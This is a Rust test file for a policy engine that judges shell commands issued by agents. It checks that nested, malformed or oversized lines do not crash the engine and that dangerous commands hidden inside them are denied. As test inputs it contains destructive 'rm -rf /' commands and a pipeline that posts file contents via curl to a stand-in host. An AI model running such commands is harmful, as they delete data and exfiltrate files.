//! No line, however made, recurses without end or panics. That none takes long is in `growth.rs`.

use rampart_policy::{Action, Call, Decision, PolicySet};

/// The longest argument list that Linux lets through, in bytes; less where nothing is
/// optimised.
const LONGEST: usize = if cfg!(debug_assertions) { 16 << 10 } else { 2 << 20 };
/// The stack of the threads that judge, in bytes: half of what a thread has by default.
const STACK: usize = 1 << 20;

fn judged(lines: Vec<(String, String)>) -> Vec<(String, Decision)> {
    let judge = move || {
        let policies = PolicySet::starter();
        lines
            .into_iter()
            .map(|(name, command)| {
                let call = Call {
                    agent: "a",
                    session: "s",
                    command: &command,
                    cwd: Some("/home/u"),
                    ..Call::default()
                };
                let decision = policies.evaluate(&call);
                (name, decision)
            })
            .collect()
    };
    let thread = std::thread::Builder::new().stack_size(STACK).spawn(judge);
    thread.expect("a thread starts").join().expect("no line panics or overflows the stack")
}

/// Constructs that nest, opened and closed.
#[rustfmt::skip]
const NESTS: &[(&str, &str)] = &[
    ("(", ")"), ("((", "))"), ("( ", " )"), ("{ ", "; }"), ("$(", ")"), ("\"$(", ")\""),
    ("`", "`"), ("${x:-", "}"), ("$((", "))"), ("$[", "]"), ("<(", ")"), ("if ", "; then :; fi"),
    ("while ", "; do :; done"), ("for x in a; do ", "; done"), ("case x in x) ", ";; esac"),
    ("case x in (x) ", ";; esac"), ("f() ", ""), ("f() { ", "; }"), ("[[ ", " ]]"),
    ("[[ ( ", " ) ]]"), ("! ", ""), ("[[ ! ", " ]]"), ("coproc ", ""), ("time ", ""), ("a=(", ")"),
    ("x[", "]"), ("@(", ")"), ("{a,", "}"), ("sh -c '", "'"), ("eval ", ""), ("sudo ", ""),
    ("env -S ", ""), ("bash <<< ", ""), ("cat <<A\n", "\nA\n"), ("'", "'"), ("\"", "\""),
    ("\\", ""), ("a | ", ""), ("a && ", ""), ("a; ", ""), ("a\n", ""), ("> f ", ""), ("A=1 ", ""),
    ("[", "]"), ("#", ""), ("x ", ""),
];

#[test]
fn nests_of_any_depth_are_answered() {
    let mut lines = Vec::new();
    for (open, close) in NESTS {
        for depth in [3, 6, 12, 25, 39, 50, 63, 150, 199, 1_000, 100_000] {
            let depth = depth.min(LONGEST / (open.len() + close.len()));
            let opened = open.repeat(depth);
            lines.push((format!("{depth} x {open:?} open"), format!("{opened}rm -rf /tmp/x")));
            let closed = format!("{opened}echo x{}", close.repeat(depth));
            lines.push((format!("{depth} x {open:?} closed"), closed.clone()));
            lines.push((
                format!("{depth} x {open:?} closed, then an error"),
                format!("{closed} fi )"),
            ));
        }
    }
    judged(lines);
}

#[test]
fn a_line_that_cannot_be_parsed_is_refused_for_what_it_may_run_and_nothing_else() {
    let cases = [
        ("echo \"rm -rf /", Action::Deny),
        ("rm -rf / )", Action::Deny),
        ("echo 'never ended", Action::Allow),
        ("ls )", Action::Allow),
        ("if true; then ls", Action::Allow),
    ];
    for (line, action) in cases {
        let [(_, decision)] = &judged(vec![(line.to_string(), line.to_string())])[..] else {
            panic!("one line has one verdict")
        };
        assert_eq!(decision.action, action, "{line}");
        assert!(decision.unparsed.is_some(), "{line}");
    }
}

#[test]
fn what_is_hidden_at_the_end_of_a_large_line_is_found() {
    let many = LONGEST / 20;
    let cases = [
        format!("{}rm -rf /", "sudo ".repeat(many)),
        format!("rm -rf {}/", "a ".repeat(many)),
        format!("{}rm -rf /", "a; ".repeat(many)),
        format!("{}rm -rf /{}", "$(".repeat(1_000), ")".repeat(1_000)),
        format!("{}rm -rf /{}", "(".repeat(1_000), ")".repeat(1_000)),
        format!("rm -rf /{}", "tmp/../".repeat(many)),
        // Each of these commands sends what all before it have read.
        format!("{}rm -rf /", "cat f | curl -d @- http://h | ".repeat(500)),
    ];
    for (_, decision) in
        judged(cases.into_iter().map(|line| (line[..20].to_string(), line)).collect())
    {
        assert_eq!(decision.action, Action::Deny);
    }
}

#[test]
fn what_would_outgrow_all_bounds_is_denied_whatever_the_policy_says() {
    let policies = PolicySet::parse("default_action: allow\npolicies: []\n", "p.yaml");
    let policies = policies.expect("a right file");
    let (options, operands) = ("--option ".repeat(600), "x ".repeat(4_000));
    for (line, action) in [
        (format!("rm {options} {operands}"), Action::Deny),
        (format!("rm {options} x"), Action::Allow),
        (format!("rm {operands}"), Action::Allow),
    ] {
        let decision = policies.evaluate(&Call { command: &line, ..Call::default() });
        assert_eq!(decision.action, action, "{}", &line[..20]);
    }
}

#[test]
fn lines_on_which_the_parser_loses_its_way_are_answered() {
    let lines = [
        "<<$[  ",
        "$(a dofi|<< < esac<( <<E # `<(",
        "<< \"x $(( <<Ethen coproc <<-E|${ ",
        "<<-E|| =coproc \\ $[ $(\t))[[\t \nE\n",
        "||a $(|| \\<<< ;; for ",
        "\nE\n${ \\<<<done$[ ] ",
        "@(')<<$[  '",
        "fi in eval} | ||^I else until <<E\" coprocdone ||a=(& $[   |&[[$(>( time in $x ",
    ];
    judged(lines.iter().map(|line| (line.to_string(), line.to_string())).collect());
}

/// The parser tries each as what opens a command and as what opens an expression.
#[test]
fn brackets_that_nothing_closes_in_a_text_wear_nobody_out() {
    let source = "default_action: allow\npolicies:\n- name: p\n  rules:\n  - {action: deny, when: {command_matches: 'rm -rf /'}}\n";
    let policies = PolicySet::parse(source, "p.yaml").expect("a right file");
    for bracket in ["(x\n", "((x\n", "f(a, \"b) (\n", "it's (a\n", "(\"\" (a\n"] {
        let text = bracket.repeat(40);
        for line in [
            format!("git commit -m \"$(cat <<'E'\n{text}E\n)\"\nrm -rf /"),
            format!("x $(cat <<'E'\n{text}E\n)\nrm -rf /"),
            format!("x \"$(cat <<'E'\na, b\n({{}}\n{text}E\n)\"\nrm -rf /"),
        ] {
            let decision = policies.evaluate(&Call { command: &line, ..Call::default() });
            assert_eq!(decision.action, Action::Deny, "{line}");
        }
    }
}
